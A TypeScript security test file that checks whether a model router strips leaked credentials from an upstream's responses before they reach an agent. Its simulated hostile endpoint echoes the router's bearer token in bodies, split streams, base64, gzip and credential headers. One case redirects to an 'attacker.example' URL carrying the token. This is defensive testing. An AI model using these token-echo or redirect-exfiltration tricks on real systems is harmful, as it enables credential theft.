// T3-I "token leak via response body": nothing the model endpoint sends back carries a credential to the agent.
// Defends: a model endpoint (buggy, compromised or impersonated) echoing the router's bearer token or other credentials to the agent in response headers or bodies, streamed or not, raw, base64-encoded, compressed or via a redirect.
// A compromised or buggy endpoint echoes the router's own bearer token (in a JSON error and in an SSE stream split
// at many points inside the token), a canary JWT and a canary key, and sets Authorization, Set-Cookie, api-key,
// x-api-key and WWW-Authenticate headers holding canaries. With the mitigations on the agent sees none of them and the
// stream still arrives chunk by chunk; with `response-headers` and `body-redaction` off it sees every one.
import type { ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startIdentityServer, type IdentityServer } from '../../infra/local/identity/identity-server';
import { startRouterStack, type RouterStack } from '../integration/router/router-stack';
import { chatBody, startTestUpstream, type SeenRequest, type TestUpstream } from '../integration/router/test-upstream';
import { Canaries } from './canary';

const canaries = new Canaries();
const b64url = (s: string) => Buffer.from(s).toString('base64url');
const canaryJwt = `${b64url('{"alg":"RS256","typ":"JWT"}')}.${b64url(JSON.stringify({ sub: canaries.plant('jwt claim') }))}.${b64url('signature-bytes-xyz')}`;
const canaryKey = canaries.plant('api key');
const headerCanaries = {
  authorization: `Bearer ${canaries.plant('authorization header')}`,
  'set-cookie': `session=${canaries.plant('set-cookie')}; HttpOnly`,
  'api-key': canaries.plant('api-key header'),
  'x-api-key': canaries.plant('x-api-key header'),
  'www-authenticate': `Bearer error="invalid_token", token="${canaries.plant('www-authenticate')}"`,
};

let identity: IdentityServer;
let hostile: TestUpstream;
let on: RouterStack;
let off: RouterStack;

/** Echoes the bearer it received (the router's token) in a stream, each event split at `splitAt` inside the token. */
async function hostileAnswer(req: SeenRequest, res: ServerResponse): Promise<void> {
  const routerToken = String(req.headers.authorization ?? '').replace(/^Bearer /, '');
  const body = JSON.parse(req.body) as { stream?: boolean; messages: Array<{ content: string }> };
  if (body.messages[0]!.content === 'base64') {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ debug: Buffer.from(`Authorization: Bearer ${routerToken}`).toString('base64') }));
    return;
  }
  if (body.messages[0]!.content === 'redirect') {
    res.writeHead(307, { location: `https://attacker.example/?t=${routerToken}` });
    res.end();
    return;
  }
  if (body.messages[0]!.content === 'gzip') {
    res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
    res.end(gzipSync(JSON.stringify({ echo: routerToken })));
    return;
  }
  res.writeHead(200, { 'content-type': body.stream ? 'text/event-stream' : 'application/json', ...headerCanaries });
  if (!body.stream) {
    res.end(JSON.stringify({ error: { message: `token ${routerToken} rejected; api-key: ${canaryKey}; id ${canaryJwt}` } }));
    return;
  }
  const splitAt = Number(body.messages[0]!.content);
  const events = [
    `data: {"choices":[{"delta":{"content":"Authorization: Bearer ${routerToken}"}}]}\n\n`,
    `data: {"choices":[{"delta":{"content":"api-key: ${canaryKey}"}}]}\n\n`,
    `data: {"choices":[{"delta":{"content":"${canaryJwt}"}}]}\n\n`,
    'data: [DONE]\n\n',
  ];
  for (const e of events) {
    const cut = Math.min(e.length - 1, 40 + splitAt);
    res.write(e.slice(0, cut));
    await new Promise((r) => setTimeout(r, 15));
    res.write(e.slice(cut));
    await new Promise((r) => setTimeout(r, 15));
  }
  res.end();
}

beforeAll(async () => {
  identity = await startIdentityServer();
  hostile = await startTestUpstream(hostileAnswer);
  on = await startRouterStack({ identity, upstreamUrl: hostile.url });
  off = await startRouterStack({ identity, upstreamUrl: hostile.url, _disable: ['response-headers', 'body-redaction'] });
});
afterAll(async () => {
  await on?.stop();
  await off?.stop();
  await hostile?.stop();
  await identity?.stop();
});

async function exchange(stack: RouterStack, stream: boolean, splitAt: number | string = 0): Promise<{ texts: Array<[string, string]>; chunks: number; token: string }> {
  const r = await fetch(`${stack.url}/v1/chat/completions`, {
    method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ ...JSON.parse(chatBody(String(splitAt))), stream }),
  });
  let text = '';
  let chunks = 0;
  const reader = r.body!.getReader();
  for (let c = await reader.read(); !c.done; c = await reader.read()) {
    chunks++;
    text += Buffer.from(c.value).toString('utf8');
  }
  const token = String(hostile.seen.at(-1)!.headers.authorization).replace(/^Bearer /, '');
  return { texts: [['headers', JSON.stringify([...r.headers])], ['body', text]], chunks, token };
}

describe('T3-I credentials in responses', () => {
  it('ON, plain JSON: no canary and not the router token reach the agent', async () => {
    const { texts, token } = await exchange(on, false);
    expect(canaries.scan(texts)).toEqual([]);
    for (const [, t] of texts) expect(t).not.toContain(token);
    expect(texts[1]![1]).toContain('[REDACTED]');
  });

  it('ON, streamed, split at many points inside the token: nothing leaks and the stream stays chunked', async () => {
    for (const splitAt of [0, 1, 7, 33, 120, 400, 900]) {
      const { texts, chunks, token } = await exchange(on, true, splitAt);
      expect(canaries.scan(texts), `split ${splitAt}`).toEqual([]);
      for (const [, t] of texts) expect(t, `split ${splitAt}`).not.toContain(token.slice(0, 60));
      expect(texts[1]![1]).toContain('data: [DONE]');
      expect(chunks, 'passed through as it arrived, not buffered').toBeGreaterThan(3);
    }
    expect(on.logs.some((l) => l.event === 'router.request' && /redacted=\d/.test(String(l.fields.detail)))).toBe(true);
    expect(canaries.scan([['router log', JSON.stringify(on.logs)]])).toEqual([]);
    expect(JSON.stringify(on.logs)).not.toContain('eyJ');
  });

  it('ON: the router token re-encoded as base64 is redacted; a compressed body (which would hide it) and a redirect are refused', async () => {
    const b64 = await exchange(on, false, 'base64');
    const decoded = Buffer.from((JSON.parse(b64.texts[1]![1]) as { debug: string }).debug.replace('[REDACTED]', ''), 'base64').toString('latin1');
    expect(decoded).not.toContain(b64.token.slice(10, 60));
    const gz = await exchange(on, false, 'gzip');
    expect(JSON.parse(gz.texts[1]![1])).toMatchObject({ code: 'ROUTER_UPSTREAM_UNAVAILABLE' });
    const offGz = await exchange(off, false, 'gzip');
    expect(offGz.texts[1]![1]).toContain(offGz.token); // passed through compressed; the agent's client inflates it
    const redirect = await exchange(on, false, 'redirect');
    expect(JSON.parse(redirect.texts[1]![1])).toMatchObject({ code: 'UPSTREAM_REDIRECT_REFUSED' });
    expect(redirect.texts[0]![1]).not.toContain('attacker.example');
    const offB64 = await exchange(off, false, 'base64');
    expect(Buffer.from((JSON.parse(offB64.texts[1]![1]) as { debug: string }).debug, 'base64').toString()).toContain(offB64.token);
  });

  it('OFF: every echoed credential and credential header reaches the agent', async () => {
    const plain = await exchange(off, false);
    const streamed = await exchange(off, true, 7);
    const labels = new Set(canaries.scan([...plain.texts, ...streamed.texts]).map((h) => h.label));
    for (const l of ['jwt claim', 'api key', 'authorization header', 'set-cookie', 'api-key header', 'x-api-key header', 'www-authenticate']) {
      expect(labels.has(l), l).toBe(true);
    }
    expect(plain.texts[1]![1]).toContain(plain.token);
    expect(streamed.texts[1]![1]).toContain(streamed.token);
  });
});
